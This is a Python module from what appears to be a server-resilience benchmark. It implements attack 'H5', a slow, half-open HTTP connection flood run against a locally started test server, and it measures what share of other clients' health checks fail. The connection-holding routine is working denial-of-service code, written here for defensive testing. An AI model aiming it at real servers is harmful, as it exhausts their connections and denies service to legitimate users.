"""H5: connections that are held for nothing, until there is none left for others."""

import asyncio
import resource
from collections.abc import Iterator
from contextlib import contextmanager, suppress

import httpx

from benchmarks.attacks.frame import Attack, Server, Target

_HOSTILE, _OTHER = "127.0.0.66", "127.0.0.7"
_HALF = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Half: "
_HALF_OPEN = 1_100
_DESCRIPTORS = 1_024
_REQUESTS = 20
_PATIENCE = 0.5


async def half_open(target: Target) -> float:
    """The share of others' requests that fail while one address holds requests that it never ends."""
    with _few_descriptors():
        serving = target.serving()
        server = await serving.__aenter__()
    try:
        held = await _held(server, _HALF_OPEN)
        failed = 0
        for _ in range(_REQUESTS):
            failed += not await _answers(server)
        for writer in held:
            writer.close()
        return failed / _REQUESTS
    finally:
        await serving.__aexit__(None, None, None)


@contextmanager
def _few_descriptors() -> Iterator[None]:
    """What is started meanwhile has as many descriptors as most systems give."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(_DESCRIPTORS, soft), hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


async def _held(server: Server, wanted: int) -> list[asyncio.StreamWriter]:
    host, _, port = server.address.partition(":")
    held = []
    for _ in range(wanted):
        with suppress(OSError, TimeoutError):
            opening = asyncio.open_connection(host, int(port), local_addr=(_HOSTILE, 0))
            _, writer = await asyncio.wait_for(opening, _PATIENCE)
            writer.write(_HALF)
            held.append(writer)
    return held


async def _answers(server: Server) -> bool:
    transport = httpx.AsyncHTTPTransport(local_address=_OTHER)
    async with httpx.AsyncClient(transport=transport, timeout=_PATIENCE, trust_env=False) as http:
        try:
            return (await http.get(f"{server.url}/health")).status_code == 200
        except httpx.HTTPError:
            return False


ATTACKS = (Attack("H5", "requests that never end, from one address", "of others' requests fail", 0.05, half_open),)
